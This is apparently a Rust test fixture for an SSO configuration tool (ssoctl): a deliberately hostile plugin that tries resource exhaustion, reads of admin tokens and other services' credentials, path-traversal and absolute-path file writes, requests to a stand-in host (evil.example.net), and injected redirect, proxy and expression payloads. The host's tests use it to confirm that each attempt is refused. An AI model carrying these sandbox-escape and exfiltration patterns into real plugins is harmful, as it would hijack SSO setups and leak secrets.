//! A deliberately hostile flow used only by the host's tests (never embedded as a stock plugin).
//! The manifest's `sso.misbehave` picks what it tries:
//! - `loop`: spins forever (must be stopped by the deadline);
//! - `oom`: allocates until the memory limit stops it;
//! - `panic`: panics (trap, with the message forwarded to the host's log);
//! - `foreign-provider`: ensures a provider named after `sso.victim` (another service);
//! - `foreign-app`: ensures an application with the victim's slug;
//! - `foreign-scope`: attaches the victim's scope mapping to its own provider;
//! - `foreign-env`: writes the victim's `<VICTIM>_OAUTH_CLIENT_ID`;
//! - `admin-token`: reads `AUTHENTIK_ADMIN_TOKEN`;
//! - `escape-file`: writes `../<victim>/manifest.yaml`;
//! - `foreign-http`: sends a request to another origin through `service-http`;
//! - `idp-foreign`: sends a request to another origin through `idp-http`;
//! - `idp-outside`: asks `idp-http` for `/admin/realms/master/users` (outside the granted prefixes);
//! - `idp-credential`: asks for `<PREFIX>IDP_TOKEN`, its own key but the idp-http credential;
//! - `recurse`: recurses without bound (stack exhaustion);
//! - `huge-string`: returns a 256 MiB-ish summary, built in pieces past the memory limit;
//! - `huge-answer`: returns a 16 MiB summary (within memory, beyond what the host accepts);
//! - `log-flood`: logs a million long lines;
//! - `call-flood`: calls the host a million times (`server-info`);
//! - `absolute-file`: writes `/etc/ssoctl-pwned`;
//! - `symlink-file`: writes through `link` (a symlink the test plants pointing outside);
//! - `trap-mid-write`: stages its own `.env` key and a file, then traps.
//!
//! The trust-boundary cases take their payload from `sso.payload` (never from the settings the
//! host reads as the operator's declarations), so a test can try many payloads with one build:
//! - `expression`: a scope mapping for `sso.scope` with the payload as its Python expression;
//! - `redirect` / `redirect-regex`: a provider whose one redirect URI is the payload;
//! - `public-client`: a public client; `grant`: the payload's comma-separated grant types;
//! - `launch`: an application whose launch URL is the payload;
//! - `acs`: a SAML provider whose ACS URL is the payload;
//! - `proxy-external` / `proxy-internal` / `proxy-cookie` / `proxy-skip` / `proxy-mode`: a proxy
//!   provider with the payload in that field (the manifest's `sso.mode` otherwise);
//! - `write`: writes the payload to `sso.path`; `set-env`: sets `sso.key` to the payload;
//! - `idp-path`: GETs the payload through `idp-http`;
//! - `print`: the payload as summary, finding, event and log line;
//! - `echo-secret`: routes the secret in `sso.key` to its own API, returns what came back;
//! - `trap-after-writes`: creates its provider and application, then traps.
//!
//! Every denied call is returned as the run's error, so tests can read the host's message.

use ssoctl_flow_sdk::sso::flow::authentik::{
    self, ApplicationSpec, ClientType, Oauth2ProviderSpec, ProxyMode, ProxyProviderSpec, SamlProviderSpec,
    ScopeMappingSpec,
};
use ssoctl_flow_sdk::sso::flow::{idp_http, service_config, service_http};
use ssoctl_flow_sdk::{Finding, FlowError, FlowInfo, Guest, MatchMode, Mode, Outcome, RedirectUri, Service, Settings};

struct Misbehave;

impl Guest for Misbehave {
    fn describe() -> FlowInfo {
        FlowInfo {
            sso_type: "misbehave".to_string(),
            version: env!("CARGO_PKG_VERSION").to_string(),
            description: "test-only hostile flow".to_string(),
        }
    }

    fn run(service: Service, _mode: Mode) -> Result<Outcome, FlowError> {
        ssoctl_flow_sdk::install_panic_hook();
        let settings = Settings::new(&service.settings);
        let victim = settings.get("victim").unwrap_or("grafana").to_string();
        match settings.get("misbehave").unwrap_or("") {
            "loop" => spin(),
            "oom" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                }
            }
            "panic" => panic!("misbehave asked to panic"),
            "foreign-provider" | "foreign-scope" => {
                let (name, custom_scopes) = if settings.get("misbehave") == Some("foreign-scope") {
                    (service.slug.clone(), vec![format!("ssoctl {victim} read_user")])
                } else {
                    (victim.clone(), Vec::new())
                };
                authentik::ensure_oauth2_provider(&name, &provider_spec(&service, custom_scopes))?;
            }
            "foreign-app" => {
                authentik::ensure_application(&ApplicationSpec {
                    slug: victim,
                    name: "stolen".to_string(),
                    launch_url: None,
                    open_in_new_tab: false,
                })?;
            }
            "foreign-env" => {
                let key = format!("{}_OAUTH_CLIENT_ID", victim.to_uppercase());
                service_config::set_env(&key, "hijacked")?;
            }
            "admin-token" => {
                service_config::get_env("AUTHENTIK_ADMIN_TOKEN")?;
            }
            "foreign-http" => {
                let request = service_config::HttpRequest {
                    method: "GET".into(),
                    path: "//evil.example.net/steal".into(),
                    body: None,
                    secret: None,
                    bearer: None,
                    capture: Vec::new(),
                };
                service_http::send(&request)?;
            }
            "idp-foreign" | "idp-outside" => {
                let path = if settings.get("misbehave") == Some("idp-outside") {
                    "/admin/realms/master/users"
                } else {
                    "https://evil.example.net/admin/realms/pma/clients"
                };
                idp_http::send(&service_config::HttpRequest {
                    method: "GET".into(),
                    path: path.into(),
                    body: None,
                    secret: None,
                    bearer: None,
                    capture: Vec::new(),
                })?;
            }
            "idp-credential" => {
                service_config::env_secret(&format!("{}IDP_TOKEN", service.env_prefix))?;
            }
            "escape-file" => {
                service_config::write_file(&format!("../{victim}/manifest.yaml"), "pwned")?;
            }
            "absolute-file" => {
                service_config::write_file("/etc/ssoctl-pwned", "pwned")?;
            }
            "symlink-file" => {
                service_config::write_file("link/pwned", "pwned")?;
            }
            "recurse" => {
                std::hint::black_box(recurse(std::hint::black_box(1)));
            }
            "huge-string" => {
                let mut s = String::new();
                loop {
                    s.push_str(&"x".repeat(1 << 20));
                }
            }
            "huge-answer" => {
                return Ok(Outcome {
                    summary: "x".repeat(16 << 20),
                    findings: Vec::new(),
                });
            }
            "log-flood" => {
                for i in 0..1_000_000u32 {
                    ssoctl_flow_sdk::debug(&format!("flood line {i} {}", "y".repeat(8000)));
                }
            }
            "call-flood" => {
                for _ in 0..1_000_000u32 {
                    std::hint::black_box(authentik::server_info());
                }
            }
            // Not hostile, but what a careless flow does: ensure the same objects twice in one run.
            // The second call must find what the first created, not create it again.
            "twice" => {
                let spec = provider_spec(&service, Vec::new());
                let app = ApplicationSpec {
                    slug: service.slug.clone(),
                    name: service.display_name.clone(),
                    launch_url: None,
                    open_in_new_tab: false,
                };
                for _ in 0..2 {
                    authentik::ensure_oauth2_provider(&service.slug, &spec)?;
                    authentik::ensure_application(&app)?;
                }
            }
            // Not hostile: the drop-in tests run it from a plugin folder and look for its key.
            "hello" => {
                service_config::set_env(&format!("{}HELLO", service.env_prefix), "from a drop-in")?;
                return Ok(Outcome {
                    summary: "hello from a drop-in component".to_string(),
                    findings: Vec::new(),
                });
            }
            "trap-mid-write" => {
                let key = format!("{}HALF_WRITTEN", service.env_prefix);
                service_config::set_env(&key, "half")?;
                service_config::write_file("half-written.txt", "half")?;
                unreachable!("trapping in the middle of the writes");
            }
            other => return trust_case(other, &service, &settings),
        }
        Ok(Outcome {
            summary: "misbehaved without being stopped".to_string(),
            findings: Vec::new(),
        })
    }
}

/// The trust-boundary cases: each sends `sso.payload` where the host must hold it to the manifest.
fn trust_case(behaviour: &str, service: &Service, settings: &Settings) -> Result<Outcome, FlowError> {
    let payload = settings.get("payload").unwrap_or("").to_string();
    let key = settings.get("key").unwrap_or("").to_string();
    let done = |summary: String| {
        Ok(Outcome {
            summary,
            findings: Vec::new(),
        })
    };
    let mut spec = provider_spec(service, Vec::new());
    match behaviour {
        "expression" => {
            authentik::ensure_scope_mapping(&ScopeMappingSpec {
                scope_name: settings.get("scope").unwrap_or("read_user").to_string(),
                expression: payload,
                description: "hostile".to_string(),
            })?;
        }
        "redirect" | "redirect-regex" => {
            let matching = if behaviour == "redirect" {
                MatchMode::Strict
            } else {
                MatchMode::Regex
            };
            spec.redirect_uris = vec![RedirectUri { matching, url: payload }];
            authentik::ensure_oauth2_provider(&service.slug, &spec)?;
        }
        // Who may log in: `sso.payload` names the groups asked for (comma-separated).
        "access" => {
            authentik::ensure_oauth2_provider(&service.slug, &spec)?;
            authentik::ensure_application(&ApplicationSpec {
                slug: service.slug.clone(),
                name: service.display_name.clone(),
                launch_url: None,
                open_in_new_tab: false,
            })?;
            authentik::ensure_access(&authentik::AccessSpec {
                groups: payload
                    .split(',')
                    .filter(|g| !g.is_empty())
                    .map(str::to_string)
                    .collect(),
                users: Vec::new(),
            })?;
        }
        "public-client" => {
            spec.client_type = ClientType::Public;
            authentik::ensure_oauth2_provider(&service.slug, &spec)?;
        }
        "grant" => {
            spec.grant_types = payload.split(',').map(str::to_string).collect();
            authentik::ensure_oauth2_provider(&service.slug, &spec)?;
        }
        "launch" | "trap-after-writes" => {
            authentik::ensure_oauth2_provider(&service.slug, &spec)?;
            authentik::ensure_application(&ApplicationSpec {
                slug: service.slug.clone(),
                name: service.display_name.clone(),
                launch_url: (behaviour == "launch").then_some(payload),
                open_in_new_tab: false,
            })?;
            if behaviour == "trap-after-writes" {
                unreachable!("trapping after the Authentik writes");
            }
        }
        "acs" => {
            authentik::ensure_saml_provider(
                &service.slug,
                &SamlProviderSpec {
                    acs_url: payload,
                    audience: String::new(),
                    issuer: None,
                    sp_binding_post: true,
                    mappings: Vec::new(),
                    name_id_mapping: None,
                    sign_assertion: true,
                    sign_response: true,
                },
            )?;
        }
        "proxy-external" | "proxy-internal" | "proxy-cookie" | "proxy-skip" | "proxy-mode" => {
            let declared_mode = match settings.get("mode").unwrap_or("forward_single") {
                "forward_domain" => ProxyMode::ForwardDomain,
                "proxy" => ProxyMode::Proxy,
                _ => ProxyMode::ForwardSingle,
            };
            let pick = |field: &str, own: Option<&str>| {
                if behaviour == format!("proxy-{field}") {
                    Some(payload.clone())
                } else {
                    own.map(str::to_string)
                }
            };
            let mode = match behaviour {
                "proxy-mode" => match payload.as_str() {
                    "forward_domain" => ProxyMode::ForwardDomain,
                    "proxy" => ProxyMode::Proxy,
                    _ => ProxyMode::ForwardSingle,
                },
                _ => declared_mode,
            };
            authentik::ensure_proxy_provider(
                &service.slug,
                &ProxyProviderSpec {
                    mode,
                    external_host: pick("external", Some(&service.public_url)).unwrap_or_default(),
                    internal_host: pick("internal", settings.get("internal_host")),
                    cookie_domain: pick("cookie", settings.get("cookie_domain")),
                    skip_path_regex: pick("skip", settings.get("skip_path_regex")),
                    access_token_validity: None,
                },
            )?;
        }
        "write" => service_config::write_file(settings.get("path").unwrap_or("x"), &payload)?,
        "set-env" => service_config::set_env(&key, &payload)?,
        "idp-path" => {
            idp_http::send(&service_config::HttpRequest {
                method: "GET".into(),
                path: payload,
                body: None,
                secret: None,
                bearer: None,
                capture: Vec::new(),
            })?;
        }
        "print" => {
            ssoctl_flow_sdk::event(&payload);
            ssoctl_flow_sdk::debug(&payload);
            return Ok(Outcome {
                summary: payload.clone(),
                findings: vec![Finding {
                    kind: payload.clone(),
                    message: payload,
                }],
            });
        }
        "echo-secret" => {
            let secret =
                service_config::env_secret(&key)?.ok_or_else(|| FlowError::Invalid(format!("{key} is not set")))?;
            let answer = service_http::send(&service_config::HttpRequest {
                method: "POST".into(),
                path: "/echo".into(),
                body: Some("{\"leak\": \"{client_secret}\"}".into()),
                secret: Some(&secret),
                bearer: None,
                capture: Vec::new(),
            })?;
            return Err(FlowError::Invalid(format!("read back: {}", answer.body)));
        }
        other => return Err(FlowError::Invalid(format!("unknown sso.misbehave `{other}`"))),
    }
    done(format!("{behaviour} was not refused"))
}

/// The SDK's confidential OIDC provider, for the service's own redirect URIs.
fn provider_spec(service: &Service, custom_scopes: Vec<String>) -> Oauth2ProviderSpec {
    let mut spec = ssoctl_flow_sdk::oauth::confidential_oidc_spec(String::new());
    spec.redirect_uris = service.redirect_uris.clone();
    spec.custom_scopes = custom_scopes;
    spec
}

/// Unbounded recursion the optimiser cannot turn into a loop.
#[allow(unconditional_recursion)]
fn recurse(n: u64) -> u64 {
    let frame = std::hint::black_box([n; 64]);
    recurse(frame[7].wrapping_add(1)).wrapping_add(frame[3])
}

#[allow(clippy::empty_loop)]
fn spin() -> ! {
    let mut n: u64 = 0;
    loop {
        n = std::hint::black_box(n.wrapping_add(1));
    }
}

ssoctl_flow_sdk::flow!(Misbehave);
